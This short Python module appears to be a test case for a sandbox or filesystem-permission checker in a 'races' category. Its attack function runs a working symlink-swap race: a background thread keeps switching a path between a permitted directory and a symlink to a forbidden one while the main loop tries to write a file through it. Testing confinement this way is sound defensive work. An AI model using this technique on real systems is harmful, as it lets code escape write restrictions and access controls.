"""A directory that becomes a symbolic link."""
CATEGORY = "races"
REACH = "write"
GRANT = {"write": ["@ROOT@/home"], "read": ["@ROOT@/home"]}

import os
import threading
import time

from . import payload

HOME = payload.ROOT + "/home"


def attack():
    os.mkdir(HOME + "/free")
    os.symlink(payload.ROOT + "/out", HOME + "/other")
    link = HOME + "/link"
    ends = time.monotonic() + 0.7

    def flip():
        while time.monotonic() < ends:
            os.rename(HOME + "/free", link)
            os.rename(link, HOME + "/free")
            os.rename(HOME + "/other", link)
            os.rename(link, HOME + "/other")

    thread = threading.Thread(target=flip)
    thread.start()
    while time.monotonic() < ends:
        try:
            open(link + "/evil", "w").close()
        except OSError:
            pass
    thread.join()
